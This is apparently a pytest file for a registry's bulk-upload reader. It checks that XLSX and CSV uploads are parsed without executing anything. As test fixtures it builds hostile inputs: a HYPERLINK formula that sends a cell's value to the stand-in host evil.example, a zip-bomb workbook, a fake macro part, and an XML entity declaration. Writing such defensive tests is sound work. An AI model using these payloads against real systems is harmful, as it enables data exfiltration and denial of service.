"""Uploads are parsed without running anything: an XLSX zip bomb is refused before it is unpacked,
a formula cell rejects its row, a workbook with links to other files or with macros is refused,
CSV text stays text (``=1+1`` is not computed), and a huge single line is refused without being
held whole."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from jamsostek.core.bulk import reading
from jamsostek.core.bulk.reading import FileProblem, check_xlsx, read_rows
from jamsostek.registry.bulk.persons import COLUMNS
from jamsostek.registry.models import Person
from jamsostek.registry.services import import_file
from tests.conftest import Personas

HEADER = ["nik", "name", "birth_date", "sex", "district_code"]
ROW = ["6104015708900009", "Dewi Lestari", "1990-08-17", "P", "61.04.01"]


def workbook(tmp_path: Path, rows: list[list[Any]], *, extra: dict[str, bytes] | None = None,
             name: str = "persons.xlsx") -> Path:  # fmt: skip
    """A persons workbook made by openpyxl, with ``extra`` parts added to its ZIP archive."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in [HEADER, *rows]:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    path = tmp_path / name
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            target.writestr(part, source.read(part.filename))
        for part_name, content in (extra or {}).items():
            target.writestr(part_name, content)
    return path


def problem(path: Path, actor: Any) -> str:
    report = import_file(actor=actor, kind="persons", path=path, reason="test")
    assert not report.applied
    return report.file_problem


def test_a_zip_bomb_is_refused_before_it_is_unpacked(personas: Personas, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    bomb = workbook(tmp_path, [ROW], extra={"xl/media/padding.xml": b" " * (64 * 1024 * 1024)})
    assert bomb.stat().st_size < 200_000  # 64 MB of spaces packs into a small file

    def never(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("openpyxl opened a workbook that should have been refused unopened")

    monkeypatch.setattr("openpyxl.load_workbook", never)
    assert "mengembang menjadi 64 MB" in problem(bomb, personas.ketapang)
    assert not Person.objects.filter(nik=ROW[0]).exists()


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = workbook(tmp_path, [ROW] * 200)
    check_xlsx(path)  # a plain workbook passes
    monkeypatch.setattr(reading, "MAX_XLSX_UNPACKED", 1000)
    with pytest.raises(FileProblem):
        check_xlsx(path)


def test_a_formula_cell_rejects_its_row_and_is_never_computed(personas: Personas, tmp_path: Path) -> None:
    link = '=HYPERLINK("http://evil.example/?"&A2,"Dewi")'
    path = workbook(tmp_path, [[*ROW[:1], link, *ROW[2:]], ["6104015708900010", "Rina", "=DATE(1990,8,17)", "P",
                                                             "61.04.01"]])  # fmt: skip
    report = import_file(actor=personas.ketapang, kind="persons", path=path, reason="test")
    assert not report.applied
    assert [(row.row, row.field, row.status) for row in report.rows] == [(2, "name", "rejected"),
                                                                         (3, "birth_date", "rejected")]  # fmt: skip
    assert report.rows[0].reason == "berisi rumus; impor nilai saja (salin sel lalu tempel sebagai nilai)"


def test_text_that_looks_like_a_formula_stays_text(personas: Personas, tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(ROW)
    sheet["B2"].value = "=1+1"
    sheet["B2"].data_type = "s"  # text that starts with '=', not a formula
    book.save(tmp_path / "text.xlsx")
    assert [row["name"] for _number, row in read_rows(tmp_path / "text.xlsx", COLUMNS)] == ["=1+1"]
    csv_file = tmp_path / "persons.csv"
    csv_file.write_text(",".join(HEADER) + "\n" + ",".join([ROW[0], "=1+1", *ROW[2:]]) + "\n", "utf-8")
    report = import_file(actor=personas.ketapang, kind="persons", path=csv_file, reason="test")
    assert report.applied, report.rows
    assert Person.objects.get(nik=ROW[0]).name == "=1+1"  # kept as written, never computed


@pytest.mark.parametrize(
    ("extra", "says"),
    [
        ({"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/'
          b'spreadsheetml/2006/main"><externalBook r:id="rId1"/></externalLink>'}, "tertaut ke berkas lain"),
        ({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}, "berisi makro"),
        ({"xl/worksheets/sheet2.xml": b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol">]><worksheet/>'},
         "tipe dokumen XML"),
    ],
)  # fmt: skip
def test_a_workbook_with_links_macros_or_xml_entities_is_refused(
    personas: Personas, tmp_path: Path, extra: dict[str, bytes], says: str
) -> None:
    assert says in problem(workbook(tmp_path, [ROW], extra=extra), personas.ketapang)
    assert not Person.objects.filter(nik=ROW[0]).exists()


def test_a_file_that_is_not_a_zip_archive_is_refused(personas: Personas, tmp_path: Path) -> None:
    path = tmp_path / "persons.xlsx"
    path.write_bytes(b"nik,name\n" * 10)
    assert "bukan buku kerja XLSX" in problem(path, personas.ketapang)


def test_a_huge_single_line_is_refused_without_reading_it_whole(personas: Personas, tmp_path: Path) -> None:
    path = tmp_path / "persons.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write(",".join(HEADER) + "\n")
        handle.write("6104015708900009," + "A" * (20 * 1024 * 1024))  # 20 MB, no line break
    said = problem(path, personas.ketapang)
    assert said.startswith("baris 2: baris tidak dapat dibaca (terlalu panjang)"), said
    tracemalloc.start()
    try:
        with pytest.raises(FileProblem):
            list(read_rows(path, COLUMNS))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4 * 1024 * 1024  # the reader read at most a line's limit at a time, never the 20 MB
    first = tmp_path / "header.csv"
    first.write_text("nik" + "," * (200 * 1024) + "\n", "utf-8")
    assert problem(first, personas.ketapang).startswith("baris 1: judul kolom lebih dari")
